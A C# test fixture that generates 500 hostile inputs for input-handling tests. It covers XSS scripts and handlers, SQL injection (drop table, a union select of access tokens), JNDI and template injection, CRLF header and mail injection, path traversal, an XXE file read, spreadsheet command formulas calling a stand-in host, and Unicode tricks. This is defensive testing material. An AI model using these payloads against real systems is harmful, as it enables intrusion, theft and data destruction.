using System.Globalization;

namespace Juluo.Host.Tests;

/// <summary>
/// 500 hostile texts: 25 of each of 20 kinds. Each kind is a few patterns, in which <c>#</c> is the text's number; patterns fewer than 25 are repeated
/// with harmless words before or after them. The word <c>heron</c> marks a text.
/// </summary>
public static class HostileTexts
{
    private const int OfEachKind = 25;

    public static readonly IReadOnlyList<HostileText> All =
    [
        .. Kinds().SelectMany((kind, k) => Of(kind.Name, kind.Patterns, k * OfEachKind)),
    ];

    public static readonly int KindCount = All.Select(t => t.Kind).Distinct().Count();

    /// <summary>The texts for one field in one round: over the rounds it sees every kind, and all fields together every text.</summary>
    public static HostileText For(int field, int round)
    {
        var kind = (field + round) % KindCount;
        return All[(kind * OfEachKind) + ((field + (field / KindCount) + (round / KindCount)) % OfEachKind)];
    }

    private static IEnumerable<HostileText> Of(string kind, IReadOnlyList<string> patterns, int first)
    {
        for (var i = 0; i < OfEachKind; i++)
        {
            var text = patterns[i % patterns.Count]
                .Replace("#", (first + i).ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);
            yield return new(
                first + i,
                kind,
                (i / patterns.Count) switch
                {
                    0 => text,
                    1 => $"{text} 林小鷺",
                    2 => $"王大明 {text}",
                    _ => $"{text}{(char)('a' + (i % 26))}",
                }
            );
        }
    }

    private static IEnumerable<(string Name, IReadOnlyList<string> Patterns)> Kinds() =>
        [
            (
                "scripts",
                [
                    "<script>heron(#)</script>",
                    "<ScRiPt src=//heron.example/#.js></sCrIpT>",
                    "<script type=module>import '//heron.example/#'</script>",
                    "</script><script>heron(#)</script>",
                    "</title></textarea></select><script>heron(#)</script>",
                    "<svg><script>heron(#)</script></svg>",
                    "<scr<script>ipt>heron(#)</scr</script>ipt>",
                    "<noscript><p title=\"</noscript><script>heron(#)</script>\">",
                    "<script nonce=\"\">heron(#)</script>",
                    "<script\t/heron# src=x></script\n>",
                ]
            ),
            (
                "handlers",
                [
                    "<img src=x onerror=heron(#)>",
                    "<img/src=`x`onerror=heron(#)//",
                    "<svg/onload=heron(#)>",
                    "<details open ontoggle=heron(#)>heron</details>",
                    "<input autofocus onfocus=heron(#)>",
                    "<video><source onerror=heron(#)></video>",
                    "<body onpageshow=heron(#)>",
                    "<a onmouseover=heron(#) href=#>heron</a>",
                    "<form onsubmit=heron(#)><button>heron</button></form>",
                    "<x style=animation-name:a onanimationstart=heron(#)>",
                ]
            ),
            (
                "attributes",
                [
                    "\" onmouseover=\"heron(#)",
                    "' onfocus='heron(#)' autofocus='",
                    "\"><h1>heron #</h1>",
                    "'><img src=//heron.example/#>",
                    "\" style=\"position:fixed;inset:0\" data-heron=\"#",
                    "\" formaction=\"javascript:heron(#)",
                    "\"/><iframe src=\"//heron.example/#\"></iframe>",
                    "` onload=`heron(#)",
                    "heron# onclick=heron(#)",
                    "&quot; onclick=&quot;heron(#)",
                    "\\\" onclick=\\\"heron(#)",
                ]
            ),
            (
                "addresses",
                [
                    "javascript:heron(#)",
                    "JaVaScRiPt:heron(#)",
                    "java\tscript:heron(#)",
                    "javascript&colon;heron(#)",
                    "javascript:// heron.example/%0aheron(#)",
                    "data:text/html,<script>heron(#)</script>",
                    "data:text/html;base64,PHNjcmlwdD5oZXJvbigpPC9zY3JpcHQ+#",
                    "vbscript:heron(#)",
                    "//heron.example/#",
                    "/\\heron.example/#",
                    "\\\\heron.example\\#",
                    "https://heron.example/#\" onclick=\"heron(#)",
                    "https://heron.example@other.example/#",
                    "http://[::1]/heron#",
                    "blob:https://heron.example/#",
                ]
            ),
            (
                "markdown",
                [
                    "[heron](javascript:heron(#))",
                    "[heron](JaVaScRiPt&colon;heron(#))",
                    "![heron](https://heron.example/#.png)",
                    "<javascript:heron(#)>",
                    "[heron]\n\n[heron]: javascript:heron(#)",
                    "[heron](data:text/html;base64,PHNjcmlwdD4#)",
                    "[heron](//heron.example/#)",
                    "[heron](https://heron.example/# \"x\\\" onmouseover=\\\"heron(#)\")",
                    "![x](x \"\" onerror=heron(#))",
                    "```\" onclick=\"heron(#)\n<script>heron(#)</script>\n```",
                    "| heron # | b |\n|:-:|--:|\n| <img src=x onerror=heron(#)> | c |",
                    "- [ ] heron # <svg onload=heron(#)>",
                    "# heron #\n###### deep\n# again",
                    "https://heron.example/#?a=\"><script>heron(#)</script>",
                    "<https://heron.example/#\" onmouseover=\"heron(#)>",
                    "> > > > > > > > > heron #\n1) heron\n   1) heron",
                    "[](heron#) [heron][] ![][x]\n\n[x]: <javascript:heron(#)> 'x'",
                    "a@heron#.example <mailto:a@heron.example?body=x>",
                ]
            ),
            (
                "elements",
                [
                    "<base href=//heron.example/#/>",
                    "<meta http-equiv=refresh content=\"0;url=//heron.example/#\">",
                    "<iframe srcdoc=\"<script>heron(#)</script>\"></iframe>",
                    "<object data=//heron.example/#></object>",
                    "<embed src=//heron.example/#>",
                    "<form action=//heron.example/#><input name=password type=password></form>",
                    "<plaintext>heron #",
                    "</main></body></html> heron #",
                    "<textarea>heron #",
                    "<template><p>heron #",
                    "<link rel=stylesheet href=//heron.example/#.css>",
                    "<dialog open>heron #</dialog>",
                    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img src onerror=heron(#)>\">",
                    "<!-- heron #",
                    "<![CDATA[ heron # ]]>",
                    "<?xml-stylesheet href=\"//heron.example/#\"?>",
                    "<title>heron #</title>",
                    "<turbo-stream action=replace target=main><template>heron #</template></turbo-stream>",
                    "<turbo-frame src=//heron.example/#></turbo-frame>",
                    "<div data-controller=network data-action=click->network#heron>#</div>",
                ]
            ),
            (
                "styles",
                [
                    "<style>*{display:none}/* heron # */</style>",
                    "}body{background:url(//heron.example/#)}",
                    "x;position:fixed;inset:0;z-index:#;heron",
                    "expression(heron(#))",
                    "@import '//heron.example/#';",
                    "\\3c script\\3e heron(#)\\3c/script\\3e",
                    "<p style=\"background:url(javascript:heron(#))\">",
                    "url('data:image/svg+xml,<svg onload=heron(#)>')",
                    "</style><img src=x onerror=heron(#)>",
                    "--heron:#;color:var(--heron)",
                ]
            ),
            (
                "sql",
                [
                    "'; drop table people.person; -- heron #",
                    "heron' or '1'='1' -- #",
                    "heron # $1 $2 @p0 :name ?",
                    "\\'; drop schema postgres cascade; -- heron #",
                    "heron%' union select hash from identity.access_token -- #",
                    "heron_% # \\_ \\%",
                    "heron\"); -- #",
                    "E'heron\\'' #",
                    "'{\"heron\": #}'::jsonb",
                    "1; select pg_sleep(9) -- heron #",
                    "$$heron #$$ $heron$",
                    "heron #'/**/or/**/1=1/*",
                    "{heron,#,\"}",
                    "heron & | ! ( # :* <->",
                    "(heron # [a-z]+){9}$^.*",
                ]
            ),
            (
                "formats",
                [
                    "{{7*7}} heron #",
                    "@(heron #) @Model @{ }",
                    "${heron} #{heron} $(heron #)",
                    "<%= heron # %>",
                    "{0} {1:X} {2,9} heron #",
                    "%s%n%x%p heron #",
                    "{name} {community} {count} heron #",
                    "{count, plural, other {heron #}}",
                    "{ heron #",
                    "} heron #",
                    "heron # __proto__ constructor",
                    "`heron #`; heron & heron | heron",
                    "%PATH% $HOME ~ heron #",
                    "${jndi:ldap://heron.example/#}",
                    "[[heron #]] ((heron)) {%heron%}",
                ]
            ),
            (
                "paths and headers",
                [
                    "heron #\r\nBcc: heron@heron.example",
                    "heron #\r\nContent-Type: text/html\r\n\r\n<script>heron(#)</script>",
                    "heron #\r\n.\r\nMAIL FROM:<heron@heron.example>",
                    "heron%0d%0aSet-Cookie:%20heron=#",
                    "heron #\nLocation: //heron.example",
                    "../../../../etc/heron#",
                    "..\\..\\heron#",
                    "/proc/self/heron#",
                    "C:\\heron#|con|nul",
                    "file:///heron/#",
                    "heron#?x=1&y=2#z",
                    "heron#;filename=\"heron.exe\"",
                    "%2e%2e%2fheron#%00.png",
                    "=?utf-8?B?aGVyb24K?= #",
                    "\"Operator\" <heron#@heron.example>",
                ]
            ),
            (
                "right to left",
                [
                    "heron #\u202Egnp.exe",
                    "\u202Eheron #",
                    "\u202Dheron # \u202E\u202E\u202E",
                    "\u2067heron #",
                    "\u2068\u2067\u2066heron #",
                    "heron # \u2069\u2069\u202C\u202C",
                    "\u202Bheron #\u202A",
                    "مرحبا heron # בית",
                    "שלום 鷺 heron # 1-2-3",
                    "\u200Fheron #\u200F!",
                    "\u061Cheron #\u061C (a)",
                    "heron # \u206A\u206F",
                ]
            ),
            (
                "no width",
                [
                    "he\u200Bron #",
                    "\uFEFFheron #\uFEFF",
                    "he\u2060\u2061\u2062\u2063\u2064ron #",
                    "he\u200Dr\u200Con #",
                    "he\u00ADr\u00ADon #",
                    "\u200B\u200B\u200B",
                    "\u3164",
                    "\u2800\u2800",
                    "\u200D\u200D\u200C",
                    "heron # \u115F\u1160\uFFA0",
                    "heron #\U000E0068\U000E0065\U000E0072\U000E006F\U000E006E",
                    "heron #\uFE0F\uFE0E\U000E0100",
                    "\u180Eheron #",
                    "heron\u00A0#\u2003\u3000x",
                    "\uFFF9heron\uFFFA#\uFFFB",
                ]
            ),
            (
                "piled marks",
                [
                    "heron #" + new string('\u0301', 60),
                    "h\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030Bron #",
                    new string('\u0336', 40) + "heron #",
                    "heron # " + string.Concat(Enumerable.Repeat("e\u0489\u0300\u0317\u0315\u0321\u0336\u0342\u0361\u0488\u20DD\u20DE", 9)),
                    "heron # \u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49\u0E49",
                    "Phở heron #, cà phê, trà",
                    "heron # 1\uFE0F\u20E3",
                    "鷺\u3099\u3099\u3099\u3099\u3099\u3099\u3099\u3099\u3099\u3099 heron #",
                ]
            ),
            (
                "halves and no characters",
                [
                    "heron #\uD83D",
                    "\uDE00heron #",
                    "he\uDE00\uD83Dron #",
                    "heron #\uFFFE",
                    "heron #\uFFFF",
                    "heron #\uFDD0\uFDEF",
                    "heron #\U0001FFFF",
                    "heron #\U0010FFFF",
                    // As the bytes of a form: FF, C3 before a letter, an overlong slash, half of a Han character.
                    "heron #\uDCFF",
                    "heron #\uDCC3(",
                    "heron #\uDCC0\uDCAF",
                    "heron #\uDCE4\uDCB8",
                ]
            ),
            (
                "control",
                [
                    "heron #\0",
                    "\0heron #",
                    "he\0ron #",
                    "heron #\u0007\u0008",
                    "\u001B[31mheron #\u001B[0m",
                    "\u001B]0;heron #\u0007",
                    "heron #\u007F",
                    "heron #\u0085next",
                    "heron #\u2028next\u2029next",
                    "heron\v#\fx",
                    "heron #\u001A",
                    "heron\t#\tx",
                    "heron\n#",
                    "heron\r#",
                    "\u0001\u0002\u0003",
                    "heron #\u009B31m",
                ]
            ),
            (
                "wide and pictures",
                [
                    "＜script＞heron(#)＜／script＞",
                    "＂ onclick＝＂heron（#）",
                    "👩‍👩‍👧‍👦 heron # 👨🏽‍🚀",
                    "🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇹🇼 heron #",
                    "𠮷野 heron # 𡘙",
                    "𝒽𝑒𝓇𝑜𝓃 #",
                    "\uE000\uF8FF heron #",
                    "ﬁ ½ ① ㍿ heron #",
                    "ⓗⓔⓡⓞⓝ # ʰᵉʳᵒⁿ",
                    "hеrоn # (Cyrillic)",
                    "🅷🅴🆁🅾🅽 #",
                    "İıſK heron #",
                    "臺北 台北 heron #",
                ]
            ),
            (
                "length",
                [
                    new string('h', 100_000) + "#",
                    new string('鷺', 100_000) + "#",
                    string.Concat(Enumerable.Repeat("🦢", 50_000)) + "#",
                    new string(' ', 100_000) + "heron #",
                    new string('<', 100_000) + "#",
                    string.Concat(Enumerable.Repeat("heron\n", 16_000)) + "#",
                    string.Concat(Enumerable.Repeat("e\u0301", 50_000)) + "#",
                    string.Concat(Enumerable.Repeat("heron, ", 14_000)) + "#",
                    string.Concat(Enumerable.Repeat("[heron](", 12_000)) + "#",
                    string.Concat(Enumerable.Repeat("**heron_", 12_000)) + "#",
                    new string('\uD83E', 100_000),
                    string.Concat(Enumerable.Repeat("🦢", 20)),
                    string.Concat(Enumerable.Repeat("🦢", 40)),
                    "h" + string.Concat(Enumerable.Repeat("🦢", 60)),
                    string.Concat(Enumerable.Repeat("🦢", 80)),
                    "h" + string.Concat(Enumerable.Repeat("🦢", 100)),
                    string.Concat(Enumerable.Repeat("🦢", 600)),
                    "h" + string.Concat(Enumerable.Repeat("🦢", 999)),
                    new string('鷺', 40),
                    new string('鷺', 60),
                    new string('鷺', 80),
                    new string('鷺', 120),
                    new string('W', 200),
                    "https://heron.example/" + new string('h', 200) + "#",
                    new string('W', 300),
                ]
            ),
            (
                "formulas",
                [
                    "=1+#+heron",
                    "+1+#+heron",
                    "-1+#+heron",
                    "@SUM(#,heron)",
                    "=cmd|' /C heron'!A#",
                    "=HYPERLINK(\"https://heron.example/#\",\"heron\")",
                    "=IMPORTXML(\"https://heron.example/#\",\"//heron\")",
                    "\t=1+#",
                    "\r=1+#",
                    "\n=1+#",
                    "＝1＋#",
                    "＋1＋#",
                    "－1－#",
                    "＠heron#",
                    "\u200B=1+#",
                    "\uFEFF=1+#",
                    "\0=1+#",
                    "\"=1+#\"",
                    "'=1+#",
                    "heron,=1+#",
                    "heron;=1+#",
                    "heron\",\"=1+#",
                    " =1+#",
                    "--#",
                    "=",
                ]
            ),
            (
                "logs and mails",
                [
                    "heron #\n2026-11-20 12:00:00 crit: everything is gone",
                    "heron #\r\r\nwarn: Juluo[0]",
                    "heron #\u001B[2J\u001B[H",
                    "heron # \u2028info: heron signed in",
                    "heron #@heron.example, other@heron.example",
                    "heron #@heron.example\r\nTo: other@heron.example",
                    "<heron#@heron.example>",
                    "\"heron #\"@heron.example",
                    "heron#@[127.0.0.1]",
                    "heron#@鷺.example",
                    "(heron)heron#@heron.example",
                    "Operator: your account is closed, see https://heron.example/#",
                    "heron #\n\nhttps://heron.example/#",
                    "heron # ${env:PATH} {@heron}",
                ]
            ),
            (
                "notations",
                [
                    "\"}],\"heron\":[{\"#\":\"",
                    "\\u003cscript\\u003eheron(#)\\u003c/script\\u003e",
                    "]]><heron>#</heron>",
                    "<!DOCTYPE x [<!ENTITY heron SYSTEM \"file:///etc/#\">]><x>&heron;</x>",
                    "&lt;script&gt;heron(#)&lt;/script&gt;",
                    "&#60;script&#62;heron(#)&#60;/script&#62;",
                    "&amp;lt;heron #&amp;gt;",
                    "{\"$type\":\"heron\",\"#\":null}",
                    "heron # \\ \\\\ \\\" \\n \\0",
                    "null",
                    "undefined",
                    "NaN",
                    "true",
                    "[]",
                    "{}",
                    "-0",
                    "1e309",
                    "0x7fffffff",
                    "99999999999999999999",
                    "!!heron/object:# {}",
                    "BEGIN:VCARD\r\nFN:heron #\r\nEND:VCARD",
                    "heron #\r\nBEGIN:VALARM\r\nACTION:DISPLAY",
                ]
            ),
        ];
}
